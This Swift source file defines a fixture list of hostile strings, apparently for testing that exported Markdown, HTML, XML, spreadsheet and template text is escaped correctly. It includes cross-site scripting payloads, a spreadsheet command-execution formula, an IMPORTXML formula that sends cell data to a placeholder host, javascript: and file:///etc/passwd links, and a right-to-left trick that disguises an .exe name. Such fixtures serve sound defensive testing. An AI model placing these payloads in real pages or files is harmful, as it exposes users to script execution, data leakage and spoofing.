/// Texts that do harm somewhere: in Markdown, HTML, XML, YAML, spreadsheets, templates or to the reader's eye.
let hostileTexts: [String] =
  formulas + markdown + blocks + html + addresses + entities + templates + invisible

private let formulas = [
  "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=HYPERLINK(\"http://evil.no\",\"klikk\")", "=cmd|' /C calc'!A0",
  "\t=1+1", "\r=1+1", "=IMPORTXML(\"https://evil.no/?\"&A1,\"//a\")",
]
private let markdown = [
  "![bilde](http://evil.no/x.png)", "[lenke](http://evil.no)", "[lenke][ref]", "[ref]: http://evil.no",
  "![x][ref]", "[^1]", "[^1]: fotnote", "*utheving*", "**fet**", "_utheving_", "__fet__", "~~strøket~~",
  "~en~",
  "`kode`", "``kode | med `rør` ``", "`a|b`", "a|b", "a\\|b", "a\\\\|b", "slutt\\", "\\", "|", "||",
  "| --- |",
  "\\[x](y)", "\\![x](y)", "[x](javascript:alert(1))", "[x](<http://evil.no>)", "[ ] oppgave", "[x] oppgave",
  "$x^2$", "$$x$$", "H~2~O", "x^2^", "{.klasse}", "{#id}", "[tekst]{.klasse}", "snake_case_name", "2*3*4",
  "\\*ikke utheving\\*", "`", "``", "\\`", "`a@b.no`", "\\`a@b.no\\`",
]
private let blocks = [
  "# overskrift", "overskrift #", "## 4224 Åseral", "- punkt", "* punkt", "+ punkt", "-", "1. punkt",
  "1) punkt",
  "123456789. punkt", "1.", "> sitat", "    kode", "\tkode", "---", "***", "___", "===", "- - -", "```",
  "~~~",
  "```html\n<b>x</b>\n```", "linje\n\n# ny overskrift", "linje\n| a | b |\n| --- | --- |", "linje\r\n- punkt",
  "linje  \nny", "% tittel", ": definisjon", "::: klasse", "\u{2028}# overskrift", "\u{85}# overskrift",
  "...", "---\nx: y\n---",
]
private let html = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>fet</b>", "<!-- kommentar -->",
  "<?php x ?>",
  "<![CDATA[x]]>", "]]>", "<!DOCTYPE x>", "<a href='http://evil.no'>x</a>", "\" onload=\"alert(1)",
  "' onload='alert(1)",
  "</text><script>alert(1)</script>", "</title></svg><svg onload=alert(1)>", "<svg xmlns:xlink=\"x\">",
  "<image xlink:href=\"http://evil.no/x.png\"/>", "<foreignObject>x</foreignObject>",
  "<style>*{color:red}</style>",
  "<br>", "<br/>", "</td></tr></table>", "a < b > c", "<https://evil.no>", "<a@b.no>", "<", ">",
]
private let addresses = [
  "https://evil.no", "http://evil.no/?a=1&b=2", "HTTPS://EVIL.NO", "ftp://evil.no", "www.evil.no",
  "WWW.evil.no",
  "(www.evil.no)", "mailto:a@b.no", "xmpp:a@b.no/x", "a@b.no", "se a.b+c@d-e.no.", "a@b@c.no", "@a@b.no",
  "_@b.no",
  "åse@bø.no", "a_b@c.no", "-a@b.no", "a'b@c.no", "navn@kommune.no|annen@kommune.no", "data:text/html,x",
  "javascript:alert(1)", "//evil.no/x", "file:///etc/passwd", "@nevnt", "#123", "https:\u{200B}//evil.no",
  "https\u{200E}://evil.no", "w\u{FEFF}ww.evil.no", "tel:+4712345678",
]
private let entities = [
  "&lt;script&gt;", "&amp;", "&copy;", "&#60;b&#62;", "&#x3c;b&#x3e;", "&nbsp;", "&", "&unknown;", "&#0;",
  "A & B", "&colon;",
]
private let templates = [
  "{{title}}", "{{{title}}}", "{{#sections}}", "{{/sections}}", "{{> fil}}", "{{=<% %>=}}", "{% raw %}", "{{",
  "}}",
  "{", "${HOME}", "\\(navn)",
]
private let invisible = [
  "abc\u{202E}fdp.exe", "\u{200F}rtl", "\u{2066}isolert\u{2069}", "nul\u{0}tegn", "esc\u{1B}[31mrødt",
  "\u{7F}", "\u{8}",
  "\u{9F}c1", character(0xFFFE), character(0xFDD0), "\u{E0041}\u{E0042}", "\u{B}vertikal", "\u{C}side",
  "\u{2029}avsnitt",
  "a\u{301}",
  "\u{A0}fast mellomrom\u{A0}", "  mellomrom  ", "to  mellomrom", "", " ", "👩‍👧 familie", "\u{FEFF}bom",
]

/// A code point that a literal may not hold.
func character(_ value: UInt32) -> String { Unicode.Scalar(value).map { String(Character($0)) } ?? "" }
